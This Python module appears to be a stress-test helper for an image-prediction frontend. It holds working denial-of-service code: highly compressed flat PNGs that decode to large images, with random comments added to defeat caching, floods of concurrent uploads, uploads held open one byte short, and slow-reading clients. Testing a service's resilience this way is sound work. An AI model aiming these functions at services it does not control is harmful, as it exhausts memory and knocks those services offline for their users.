"""Callers who would fill the service's memory: flat pictures of many pixels, uploads held open, answers read slowly.

Each function attacks a running frontend and returns what its callers met. The memory is watched from outside.
"""

import asyncio
import contextlib
import secrets
import struct
import zlib
from collections import Counter
from collections.abc import Coroutine, Sequence
from typing import Any, Final

import httpx

PIECE_BYTES: Final = 64 * 1024
RGB: Final = 3
_PATIENCE_S: Final = 300.0


def flat_png(width: int, height: int, colour: tuple[int, ...] = (200, 120, 180)) -> bytes:
    """A PNG of one colour, a thousandth of its pixels in bytes; each call gives another file.

    Args:
        width: Pixels.
        height: Pixels.
        colour: Red, green, blue, and opacity where the picture has one: it then takes twice the memory to decode.
    """
    row = b"\0" + bytes(colour) * width
    encoder = zlib.compressobj(1)
    content = b"".join([*(encoder.compress(row) for _ in range(height)), encoder.flush()])
    head = struct.pack(">IIBBBBB", width, height, 8, 2 if len(colour) == RGB else 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", content) + _chunk(b"IEND", b"")


def another(png: bytes) -> bytes:
    """The same picture as another file, so that no answer is stored for it."""
    return png[:-12] + _chunk(b"tEXt", b"Comment\0" + secrets.token_hex(8).encode()) + png[-12:]


async def send_together(url: str, model: str, pictures: Sequence[bytes]) -> Counter[str]:
    """Send pictures at the same time.

    Args:
        url: The frontend's address.
        model: What is asked.
        pictures: Encoded.

    Returns:
        How often each answer came: its status, and its code where it is an error.
    """
    limits = httpx.Limits(max_connections=None)
    async with httpx.AsyncClient(base_url=url, timeout=_PATIENCE_S, limits=limits) as http:
        answers = await asyncio.gather(
            *(http.post(f"/v1/models/{model}/predict", content=each) for each in pictures), return_exceptions=True
        )
    return Counter(_told(each) for each in answers)


async def hold_uploads(host: str, port: int, model: str, count: int, size: int, seconds: float) -> int:
    """Send so many bodies without their last byte, and hold them open.

    Args:
        host: The frontend's.
        port: The frontend's.
        model: What is asked.
        count: Uploads at once.
        size: Bytes of each.
        seconds: How long they are held.

    Returns:
        Bytes that the frontend took in all.
    """
    head = (
        f"POST /v1/models/{model}/predict HTTP/1.1\r\nHost: x\r\nContent-Type: image/png\r\n"
        f"Content-Length: {size}\r\n\r\n"
    )
    piece = b"\x89PNG\r\n\x1a\n" + bytes(PIECE_BYTES - 8)
    taken = 0

    async def hold() -> None:
        nonlocal taken
        _, writer = await asyncio.open_connection(host, port)
        try:
            writer.write(head.encode())
            for start in range(0, size - 1, PIECE_BYTES):
                part = piece[: min(PIECE_BYTES, size - 1 - start)]
                writer.write(part)
                await writer.drain()
                taken += len(part)
            await asyncio.sleep(seconds)
        finally:
            writer.transport.abort()

    await _until_over([hold() for _ in range(count)], seconds)
    return taken


async def read_slowly(host: str, port: int, path: str, count: int, seconds: float) -> Counter[str]:
    """Ask for the same answer so many times, and read each a little at a time.

    Args:
        host: The frontend's.
        port: The frontend's.
        path: What is asked for.
        count: Readers.
        seconds: How long they go on.

    Returns:
        How often each status line came; "none" where no answer began.
    """
    met: Counter[str] = Counter()

    async def read() -> None:
        reader, writer = await asyncio.open_connection(host, port, limit=PIECE_BYTES)
        status = "none"
        try:
            writer.write(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
            status = (await reader.readline()).decode().strip() or "none"
            while await reader.read(PIECE_BYTES):  # noqa: ASYNC110 - slowness is the attack
                await asyncio.sleep(1)
        finally:
            met[status] += 1
            writer.transport.abort()

    await _until_over([read() for _ in range(count)], seconds)
    return met


async def _until_over(attacks: Sequence[Coroutine[Any, Any, None]], seconds: float) -> None:
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await asyncio.gather(*attacks, return_exceptions=True)


def _told(answer: httpx.Response | BaseException) -> str:
    if isinstance(answer, BaseException):
        return type(answer).__name__
    code = answer.json().get("code") if answer.status_code != httpx.codes.OK else None
    return f"{answer.status_code} {code}" if code else str(answer.status_code)


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
